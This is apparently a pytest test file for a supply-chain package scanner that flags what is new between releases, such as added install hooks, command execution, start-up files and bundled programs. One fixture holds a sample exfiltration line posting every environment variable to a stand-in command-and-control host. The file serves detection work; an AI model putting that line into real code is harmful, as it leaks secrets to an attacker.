"""What is new."""

from __future__ import annotations

from collections.abc import Callable

from yanmen.core.nouns import Finding, Unexamined
from yanmen.supply.packages.examining import examine
from yanmen.supply.packages.package import Package

Make = Callable[..., Package]


def _said(old: Package, new: Package) -> list[str]:
    found = examine(new, against=[old])
    return [
        f"{one.rule.id} {one.evidence}"
        for one in found
        if isinstance(one, Finding) and "differs" in one.rule.id
    ]


def test_a_new_hook_and_a_new_connection_are_named(make: Make) -> None:
    """A script of npm that the last release had not; a command that the wheel gives and its source does not."""
    old, new = (
        make({"index.js": ""}, "npm"),
        make({"index.js": "", "x.js": ""}, "npm", scripts={"postinstall": "node x.js"}),
    )
    calm, loud = (
        make({"a/__init__.py": "x = 1"}, "sdist"),
        make({"a/__init__.py": "import os\nos.system('true')"}),
    )

    assert any("a hook, script: postinstall: node x.js" in one for one in _said(old, new))
    assert any("os.system runs command" in one for one in _said(calm, loud))


def test_what_is_grave_alone_is_grave_as_news(make: Make) -> None:
    """A new finding of high severity, a start-up file, a program; a new module weighs little."""
    code = "import os, requests\nrequests.post('http://c2.invalid', json=dict(os.environ))"
    stolen = _said(make({"a.py": ""}), make({"a.py": code}))
    starts = _said(make({"a.py": ""}), make({"a.py": "", "x.pth": "import a\n"}))
    brought = _said(make({"a.py": ""}), make({"a.py": "", "b.py": "", "c.exe": b"MZ\0\0"}))

    assert any(
        one.startswith("package.differs not in the wheel: package.steals-environment") for one in stolen
    )
    assert any(one.startswith("package.differs not in the wheel: a hook, pth") for one in starts)
    assert "package.differs not in the wheel: a program" in brought
    assert "package.differs-files not in the wheel: a file of code" in brought


def test_the_same_is_no_difference(make: Make) -> None:
    """Also where a source tree keeps its code under src/."""
    assert _said(make({"src/a.py": "x = 1"}, "sdist"), make({"a.py": "x = 1"})) == []


def test_another_package_is_not_compared(make: Make) -> None:
    """It is said that nothing was compared."""
    other = make({"a.py": ""}, name="another")
    found = [one for one in examine(make({"a.py": ""}), against=[other]) if isinstance(one, Unexamined)]

    assert [one.reason for one in found] == ["not-checked"]
